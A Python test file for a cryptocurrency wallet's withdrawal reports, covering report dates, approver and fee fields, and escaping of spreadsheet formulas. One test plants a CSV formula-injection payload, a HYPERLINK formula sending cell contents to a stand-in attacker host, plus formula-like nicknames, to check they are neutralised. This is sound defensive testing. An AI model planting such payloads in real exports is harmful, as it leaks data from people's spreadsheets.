"""Withdrawals in the files, paid and not; and nothing that people name is a formula."""

from datetime import date

from accounts.models import User
from tests.wallet.finance.books import arrive, at, begin, credit, move_all_to, read, total
from tests.wallet.house import execute, guards_off, make_player
from tests.wallet.withdrawals.house import BITCOIN, ask, member_of_staff, player_with
from wallet import chart, movements, withdrawals
from wallet.finance.files import REPORTS
from wallet.ledger import credit as credited_to
from wallet.ledger import debit, post
from wallet.models import Payment, PaymentAttempt, PaymentOutput, Withdrawal

DAY = date(2026, 11, 2)
NOON = "2026-11-02 12:00"


def test_a_withdrawal_is_in_the_days_of_its_hold_and_of_its_end() -> None:
    row = ask(player_with(3_000_000))
    move_all_to(at("2026-10-01 12:00"))
    begin(row.hold, at("2026-11-02 12:00"))
    withdrawals.cancel(user=row.user, public_id=row.public_id)
    row.refresh_from_db()
    assert row.closing is not None
    begin(row.closing, at("2026-11-05 12:00"))
    for day, found in ((2, 1), (3, 0), (4, 0), (5, 1), (6, 0)):
        assert len(read("withdrawals", date(2026, 11, day))) == found, day
    (line,) = read("withdrawals", DAY, date(2026, 11, 30))
    assert line["withdrawal"] == str(row.public_id)
    assert (line["requested_at"], line["ended_at"]) == (
        "2026-11-02 12:00:00+09:00",
        "2026-11-05 12:00:00+09:00",
    )
    assert (line["state"], line["amount_krw"], line["fee_krw"]) == ("cancelled", "100000", "3000")
    assert line["hold_transaction"] == str(row.hold_id)
    assert line["closing_transaction"] == str(row.closing_id)
    assert line["payment"] == line["txid"] == line["network_fee"] == line["approved_by"] == ""


def paid(row: Withdrawal, staff: User) -> Payment:
    """Approved, sent and settled, as approval and signer leave it."""
    with guards_off():
        row.approvals.create(staff=staff, content_hash=row.content_hash, approved=True)
        payment = Payment.objects.create(
            network="bitcoin",
            asset="BTC",
            kind="withdrawal",
            from_address=BITCOIN,
            amount_units=row.amount_units,
            fee_cap_units=row.fee_cap_units,
            fee_paid_units=1_410,
            state="settled",
        )
        for is_void, txid in ((True, "11" * 32), (False, "22" * 32)):
            PaymentAttempt.objects.create(
                payment=payment,
                number=int(is_void),
                network="bitcoin",
                txid=txid,
                raw="00",
                fee_units=1_410,
                fee_rate=1,
                is_confirmed=not is_void,
            )
        PaymentOutput.objects.create(
            payment=payment, withdrawal=row, address=row.address, amount_units=row.amount_units
        )
    moved = movements.Movement()
    moved.paid_out(row)
    moved.fee("BTC", 1_410, chart.custody("hot", "BTC"))
    booked = moved.post(payment.pk)
    with guards_off():
        execute(
            "UPDATE wallet_withdrawal SET state = 'settled', closing_id = %s WHERE id = %s",
            [booked and booked.pk, row.pk],
        )
    return payment


def hot_wallet(units: int) -> None:
    movements.capital_moved(
        key="bitcoin:float", asset="BTC", place=chart.custody("hot", "BTC"), units=units
    )


def test_a_paid_withdrawal_says_who_approved_and_what_the_chain_took() -> None:
    hot_wallet(10**8)
    row, staff = ask(player_with(3_000_000)), member_of_staff()
    payment = paid(row, staff)
    move_all_to(at(NOON))
    (line,) = read("withdrawals", DAY)
    assert line["approved_by"] == f"{staff.pk} {staff.nickname}"
    assert (line["payment"], line["txid"]) == (str(payment.pk), "22" * 32)
    assert (line["network_fee"], line["network_fee_units"]) == ("0.00001410", "1410")
    assert line["network_fee_asset"] == "BTC"
    assert line["amount_units"] == str(row.amount_units)
    assert line["rate_krw"] == "101000000.00000000"
    totals = read("totals", DAY)
    fees = [each for each in totals if each["account_kind"] == "network_fees"]
    assert total(fees, "debits") == total([line], "network_fee")
    held = [each for each in totals if each["account_kind"] == "held"]
    assert total(held, "credits") == total(held, "debits") == total([line], "amount_krw")


def test_nothing_that_people_name_is_run_by_a_spreadsheet() -> None:
    hot_wallet(10**8)
    formula = '=HYPERLINK("http://thief.test/"&A1)'
    player, staff = player_with(3_000_000), member_of_staff()
    User.objects.filter(pk=player.pk).update(nickname="-2+3")
    User.objects.filter(pk=staff.pk).update(nickname="@SUM(A1)")
    player.refresh_from_db()
    paid(ask(player), staff)
    with guards_off():
        execute("UPDATE wallet_payoutaddress SET label = %s", [formula])
    credit(arrive(player, 1_000_000))
    post(
        kind="test",
        key="+1:of a client",
        postings=[
            debit(chart.player(player.pk), 1),
            credited_to(chart.player(make_player()), 1),
        ],
    )
    move_all_to(at(NOON))
    (line,) = read("withdrawals", DAY)
    assert line["address_label"] == f"'{formula}"
    assert line["player_nickname"] == "'-2+3"
    numbers = {"amount", "amount_units", "amount_krw"}
    for report in REPORTS:
        rows = read(report, DAY)
        assert rows, report
        for row in rows:
            for column, cell in row.items():
                is_number = column in numbers or cell.replace(".", "").removeprefix("-").isdigit()
                assert is_number or not cell.startswith(tuple("=+-@\t\r")), (report, column)
